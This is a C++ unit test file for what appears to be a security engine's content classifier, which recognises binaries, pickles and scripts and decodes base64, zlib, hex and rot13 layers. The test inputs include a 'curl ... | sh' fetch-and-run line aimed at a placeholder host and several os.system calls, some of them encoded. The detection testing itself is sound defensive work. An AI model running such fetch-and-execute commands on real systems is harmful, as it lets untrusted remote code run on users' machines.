// What bytes are by content, and the encodings around them undone (engine/src/codecs/content).
#include <gtest/gtest.h>

#include <string>

#include "content.hpp"

namespace warden::detail::codec {
namespace {

using namespace std::string_literals;

std::string elf64() { return "\x7f" "ELF\x02\x01\x01\x00"s + std::string(56, '\0'); }

TEST(Content, KindsByTheirBytes) {
  EXPECT_EQ(content_kind(elf64()), ContentKind::elf);
  EXPECT_EQ(content_kind("\x7f" "ELF"), ContentKind::none) << "a magic alone is no program";
  std::string pe = "MZ" + std::string(0x3a, '\0') + "\x40\x00\x00\x00"s + "PE\0\0"s + std::string(20, '\0');
  EXPECT_EQ(content_kind(pe), ContentKind::pe);
  EXPECT_EQ(content_kind("MZ" + std::string(80, 'x')), ContentKind::none) << "MZ without a PE header";
  EXPECT_EQ(content_kind("\xcf\xfa\xed\xfe"s + std::string(28, '\0')), ContentKind::macho);
  EXPECT_EQ(content_kind("\xa7\x0d\x0d\x0a"s + std::string(12, '\0')), ContentKind::python_bytecode);  // a 3.11 .pyc
  EXPECT_EQ(content_kind("\x80\x04\x95\x05\x00\x00\x00\x00\x00\x00\x00K\x01."s), ContentKind::pickle);
  EXPECT_EQ(content_kind("PK\x03\x04"s + std::string(30, '\0')), ContentKind::archive);
  EXPECT_EQ(content_kind("#!/bin/sh\necho hi\n"), ContentKind::shell_script);
  EXPECT_EQ(content_kind("curl -s http://x/y | sh"), ContentKind::shell_script);
  EXPECT_EQ(content_kind("import os\nos.system('id')\n"), ContentKind::python_source);
  EXPECT_EQ(content_kind("__import__('os').system('id')"), ContentKind::python_source);
  EXPECT_EQ(content_kind("#include <stdio.h>\nint main(void) { return 0; }\n"), ContentKind::c_source);
  EXPECT_EQ(content_kind("The quick brown fox jumps over the lazy dog."), ContentKind::none);
  EXPECT_EQ(content_kind("\x89PNG\r\n\x1a\n"s + std::string(40, '\0')), ContentKind::none);
}

TEST(Content, EncodingsAreUndoneAndNamed) {
  const Unwrapped zipped = unwrap_content("eJzLzC3ILypRyC/myi/WK64sLknN1VDPTFHX5AIAg0EI0w==");
  EXPECT_EQ(zipped.kind, ContentKind::python_source);
  EXPECT_EQ(zipped.steps, (std::vector<std::string>{"base64", "zlib"}));
  EXPECT_EQ(zipped.bytes, "import os\nos.system('id')\n");
  const Unwrapped twice = unwrap_content("SXlFdlltbHVMMkpoYzJnS1pXTm9ieUJ3ZDI1bFpBbz0=");
  EXPECT_EQ(twice.kind, ContentKind::shell_script);
  EXPECT_EQ(twice.steps, (std::vector<std::string>{"base64", "base64"}));
  const Unwrapped reversed = unwrap_content("=oQZu9Gdy92ch1GIv9GbvVWZj1CdvNGIk9Gdl9SbvNXauJ2LhIyI");
  EXPECT_EQ(reversed.kind, ContentKind::none) << "not base64 either way";
  // hex, of an ELF
  std::string hex;
  for (const char ch : elf64()) {
    const auto c = static_cast<unsigned char>(ch);
    hex += "0123456789abcdef"[c >> 4];
    hex += "0123456789abcdef"[c & 15];
  }
  const Unwrapped binary = unwrap_content(hex);
  EXPECT_EQ(binary.kind, ContentKind::elf);
  EXPECT_EQ(binary.steps, std::vector<std::string>{"hex"});
  const Unwrapped rotated = unwrap_content("vzcbeg bf\nbf.flfgrz('vq')\n", 4, false);
  EXPECT_EQ(rotated.kind, ContentKind::python_source);
  EXPECT_EQ(rotated.steps, std::vector<std::string>{"rot13"});
  EXPECT_EQ(unwrap_content("Gur dhvpx oebja sbk whzcf bire gur ynml qbt.", 4, false).kind, ContentKind::none)
      << "rot13 prose: no marker, not rotated";
  // The depth bounds the search.
  EXPECT_EQ(unwrap_content("SXlFdlltbHVMMkpoYzJnS1pXTm9ieUJ3ZDI1bFpBbz0=", 1).kind, ContentKind::none);
}

TEST(Content, TextAsItIsCountsOnlyWhenAsked) {
  EXPECT_EQ(unwrap_content("import os\nos.system('id')\n", 4, false).kind, ContentKind::none);
  EXPECT_EQ(unwrap_content("import os\nos.system('id')\n", 4, true).kind, ContentKind::python_source);
  EXPECT_EQ(unwrap_content(elf64(), 4, false).kind, ContentKind::elf) << "binaries count as they are";
  // Prose is not decoded: it fails the alphabets at its first space.
  EXPECT_EQ(unwrap_content(std::string(5000, 'a') + " and more", 4, false).kind, ContentKind::none);
}

TEST(Content, KindNames) {
  for (const auto kind : {ContentKind::elf, ContentKind::pe, ContentKind::macho, ContentKind::python_bytecode,
                          ContentKind::pickle, ContentKind::shell_script, ContentKind::python_source,
                          ContentKind::c_source, ContentKind::archive}) {
    EXPECT_EQ(content_kind_named(to_string(kind)), kind);
  }
  EXPECT_FALSE(content_kind_named("none"));
  EXPECT_FALSE(content_kind_named("exe"));
}

}  // namespace
}  // namespace warden::detail::codec
